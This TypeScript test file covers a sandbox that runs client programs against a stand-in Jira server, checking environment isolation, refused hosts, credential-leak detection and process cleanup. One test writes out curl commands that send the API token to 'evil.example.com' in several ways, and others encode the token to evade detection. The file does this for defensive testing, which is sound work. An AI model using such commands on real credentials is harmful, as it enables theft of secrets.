import { existsSync } from 'node:fs';
import { afterEach, describe, expect, it } from 'vitest';
import { clearSecrets } from '../secrets/redaction.ts';
import { MAX_OUTPUT } from './client-process.ts';
import { DEFAULT_NOTICES, noticeIn } from './notices.ts';
import { observe } from './observe.ts';
import { isRunning, observeCode, surroundingsWith } from './observe.fixture.ts';
import { scenarioNamed } from './scenarios.ts';

afterEach(clearSecrets);

const pidsIn = (text: string): number[] => (text.match(/\d+/g) ?? []).map(Number);

const PRINT_ENVIRONMENT = `
  import { readdirSync } from 'node:fs';
  import { tmpdir } from 'node:os';
  console.log(JSON.stringify({ ...process.env, cwd: process.cwd(), files: readdirSync('.'), tmp: tmpdir() }));
`;

/** Returns what a program finds around it. */
async function around(
  options: Parameters<typeof observeCode>[1] = {},
): Promise<Record<string, string | undefined>> {
  const { stdout } = await observeCode(PRINT_ENVIRONMENT, options);
  return JSON.parse(stdout) as Record<string, string | undefined>;
}

describe('the settings of a program', () => {
  it('are those of the scenario under the usual names, and none of the parent', async () => {
    const env = {
      ...process.env,
      JIRA_SITE: 'https://real.example.com',
      ACME_JIRA_API_TOKEN: 'real',
      JIRA_SOMETHING_ELSE: 'real',
      ATLASSIAN_OTHER: 'real',
      HTTPS_PROXY: 'http://real.example.com:1',
      https_proxy: 'http://real.example.com:1',
      ALL_PROXY: 'socks://real.example.com:1',
      SSL_CERT_DIR: '/real',
      npm_config_registry: 'https://real.example.com',
      KEPT: 'yes',
    };
    const identity = surroundingsWith().identity;
    const found = await around({ env, identity });
    expect(Object.values(found).filter((value) => String(value).includes('real.example.com'))).toEqual([]);
    expect(found).not.toHaveProperty('ACME_JIRA_API_TOKEN');
    expect(found).not.toHaveProperty('JIRA_SOMETHING_ELSE');
    expect(found).not.toHaveProperty('ALL_PROXY');
    expect(found).not.toHaveProperty('SSL_CERT_DIR');
    expect(found).toMatchObject({
      KEPT: 'yes',
      JIRA_URL: expect.stringMatching(/^http:\/\/127\.0\.0\.1:\d+$/) as string,
      JIRA_HOST: expect.stringMatching(/^127\.0\.0\.1:\d+$/) as string,
      JIRA_EMAIL: identity.email,
      JIRA_USERNAME: identity.email,
      JIRA_API_TOKEN: identity.apiToken,
      ATLASSIAN_API_TOKEN: identity.apiToken,
    });
    expect(found['JIRA_SITE']).toBe(found['JIRA_URL']);
  });

  it('are absent if nothing is set', async () => {
    const found = await around({ scenario: 'missing', env: { ...process.env, JIRA_EMAIL: 'parent' } });
    const names = Object.keys(found).filter((name) => /EMAIL|USER|TOKEN|PASSWORD|API_KEY/.test(name));
    expect(names.filter((name) => /JIRA|ATLASSIAN/.test(name))).toEqual([]);
    expect(found).toHaveProperty('JIRA_URL');
  });

  it('do not tell the scenario', async () => {
    const all = JSON.stringify(await around({ scenario: 'dies-between-pages' }));
    expect(all).not.toMatch(/dies|scenario/i);
  });

  it('stand where the command, the environment and the files have placeholders', async () => {
    const identity = surroundingsWith().identity;
    const { stdout } = await observe(
      {
        drive: 'command',
        command: ['sh', '-c', 'echo "$0|$EXTRA|$(cat deep/settings.ini)"', '{email}:{project}:{no}'],
        environment: { EXTRA: '{token} {issue}' },
        files: { 'deep/settings.ini': 'url={url} basic={basic}' },
      },
      scenarioNamed('valid'),
      surroundingsWith({ identity }),
    );
    const basic = Buffer.from(`${identity.email}:${identity.apiToken}`).toString('base64');
    expect(stdout).toMatch(/\|url=http:\/\/127\.0\.0\.1:\d+ basic=/);
    expect(stdout).toContain(`basic=${basic}`);
    expect(stdout).toContain(`${identity.email}:EXAMPLE:{no}|${identity.apiToken} EXAMPLE-1|`);
  });
});

it('gives a program a folder, home and temporary folder of its own, which are removed', async () => {
  const { cwd = '', HOME, tmp = '', files } = await around();
  expect(files).toEqual([]);
  expect(HOME).toBe(cwd);
  expect(tmp).not.toBe('/tmp');
  expect([existsSync(cwd), existsSync(tmp)]).toEqual([false, false]);
});

describe('a program that asks for another host', () => {
  it('is refused and reported, if it obeys proxies', async () => {
    const seen = await observeCode(
      `for (const url of ['http://telemetry.example.com/x', 'https://telemetry.example.com/'])
         await fetch(url).then((r) => console.log(r.status), () => console.log('failed'));
       await fetch(process.env.JIRA_URL + '/rest/api/3/myself');`,
    );
    expect(seen.refusedHosts).toEqual(['telemetry.example.com:80', 'telemetry.example.com:443']);
    expect(seen.leaks).toEqual([]);
    expect(seen.requests).toHaveLength(1);
  });

  it.each([
    ['as its user', ['-u', '{email}:{token}', 'http://evil.example.com/'], true],
    ['in the address', ['http://evil.example.com/?key={token}'], true],
    ['in a header', ['-H', 'X-Key: {token}', 'http://evil.example.com/'], true],
    ['in a body', ['-d', 'key={basic}', 'http://evil.example.com/'], true],
    ['not at all', ['-H', 'Authorization: Bearer of-something-else', 'http://evil.example.com/'], false],
  ])('leaks, if the credential is sent there %s', async (_where, args, isLeak) => {
    const { leaks, refusedHosts } = await observe(
      { drive: 'command', command: ['curl', '-s', ...args] },
      scenarioNamed('valid'),
      surroundingsWith(),
    );
    expect(leaks).toEqual(isLeak ? ['another host'] : []);
    expect(refusedHosts).toHaveLength(1);
  });
});

it('is https://….atlassian.net behind a proxy, if that is asked for', async () => {
  const { requests, stdout, refusedHosts } = await observeCode(
    `const { JIRA_URL, JIRA_EMAIL, JIRA_API_TOKEN } = process.env;
     const authorization = 'Basic ' + btoa(JIRA_EMAIL + ':' + JIRA_API_TOKEN);
     const response = await fetch(JIRA_URL + '/rest/api/3/myself', { headers: { authorization } });
     console.log(JIRA_URL, response.status);
     await fetch('https://other.example.com').catch(() => undefined);`,
    { tls: true },
  );
  expect(stdout).toMatch(/^https:\/\/[\w-]+\.atlassian\.net 200$/m);
  expect(requests.map(({ answeredFor }) => answeredFor)).toEqual(['account']);
  expect(refusedHosts).toEqual(['other.example.com:443']);
});

describe('nothing survives', () => {
  it('of a program that never ends', async () => {
    const seen = await observeCode('console.log(process.pid); setInterval(() => {}, 1000);', {
      timeLimitMs: 1000,
    });
    expect(seen).toMatchObject({ ending: 'time limit', succeeded: false });
    expect(pidsIn(seen.stdout).filter(isRunning)).toEqual([]);
  });

  it.each([
    ['in its group', "{ stdio: 'inherit' }"],
    ['as a daemon', "{ detached: true, stdio: 'ignore' }"],
    ['as a daemon with its output', "{ detached: true, stdio: 'inherit' }"],
  ])('of a program that leaves a process behind %s', async (_where, options) => {
    const seen = await observeCode(
      `import { spawn } from 'node:child_process';
       const child = spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)'], ${options});
       child.unref();
       console.log(process.pid, child.pid);
       process.exit(0);`,
    );
    const pids = pidsIn(seen.stdout);
    expect(pids).toHaveLength(2);
    expect(pids.filter(isRunning)).toEqual([]);
    expect(seen.succeeded).toBe(true);
  });

  it('of a program that ignores signals, when the user interrupts', async () => {
    const controller = new AbortController();
    const timer = setInterval(() => controller.abort(), 1500);
    const seen = await observeCode(
      "for (const name of ['SIGINT', 'SIGTERM']) process.on(name, () => {}); console.log(process.pid); setInterval(() => {}, 1000);",
      { interrupted: controller.signal },
    );
    clearInterval(timer);
    expect(seen.ending).toBe('interrupted');
    expect(pidsIn(seen.stdout).filter(isRunning)).toEqual([]);
  });

  it('of a program that asks without end', async () => {
    const seen = await observeCode(`for (;;) await fetch(process.env.JIRA_URL + '/rest/api/3/myself');`);
    expect(seen.ending).toBe('endless requests');
    expect(seen.requests.length).toBeLessThan(5000);
  });
});

describe('the output of a program', () => {
  it('is bounded, and read to its end', async () => {
    const seen = await observeCode(
      `const line = 'x'.repeat(2 ** 16) + '\\n';
       for (let i = 0; i < 400; i += 1) if (!process.stdout.write(line)) await new Promise((done) => process.stdout.once('drain', done));`,
    );
    expect(seen.succeeded).toBe(true);
    expect(seen.stdout).toHaveLength(MAX_OUTPUT);
  });

  it('may be no text', async () => {
    const seen = await observeCode(
      'process.stdout.write(Buffer.from(Array.from({ length: 256 }, (_, i) => i)));',
    );
    expect(seen.succeeded).toBe(true);
    expect(seen.stdout.isWellFormed()).toBe(true);
  });

  it.each([
    ['as it is', 'token'],
    ['in part', 'token.slice(40, 90)'],
    ['as Basic', "btoa(process.env.JIRA_EMAIL + ':' + token)"],
    ['in hex', "Buffer.from(token).toString('hex')"],
    ['encoded for a URL', 'encodeURIComponent(token)'],
    ['in JSON with escapes', String.raw`JSON.stringify(token).replace('T', '\\u0054')`],
  ])('is searched for the credential, %s', async (_form, expression) => {
    const code = `const token = process.env.JIRA_API_TOKEN; console.error('x' + ${expression} + 'y');`;
    expect((await observeCode(code)).leaks).toEqual(['stderr']);
  });

  it('may have the email, and a masked token', async () => {
    const code = `const { JIRA_EMAIL, JIRA_API_TOKEN: token } = process.env; console.log(JIRA_EMAIL, token.slice(0, 4) + '…' + token.slice(-4));`;
    expect((await observeCode(code)).leaks).toEqual([]);
  });
});

it('does not count the name of the stand-in as a word of the program', async () => {
  const { text } = await observeCode(
    `const { headers } = await fetch(process.env.JIRA_URL + '/rest/api/3/project');
     console.log(JSON.stringify([...headers]));`,
  );
  expect(text).toContain('x-stand-in');
  expect(noticeIn({ exitCode: 0, stdout: '', text }, DEFAULT_NOTICES)).toBeUndefined();
});

describe('the end of a program', () => {
  it.each([
    ['process.exit(0)', { exitCode: 0, succeeded: true }],
    ['process.exit(7)', { exitCode: 7, succeeded: false }],
    [
      "process.kill(process.pid, 'SIGTERM'); setInterval(() => {}, 1000)",
      { signal: 'SIGTERM', succeeded: false },
    ],
    ["process.stdin.resume().on('end', () => process.exit(5))", { exitCode: 5 }],
  ])('is seen: %s', async (code, end) => {
    expect(await observeCode(code)).toMatchObject(end);
  });

  it('is none if it cannot be started', async () => {
    const seen = await observe(
      { drive: 'command', command: ['/no/such/program'] },
      scenarioNamed('valid'),
      surroundingsWith(),
    );
    expect(seen).toMatchObject({ notStarted: 'ENOENT', succeeded: false });
  });
});
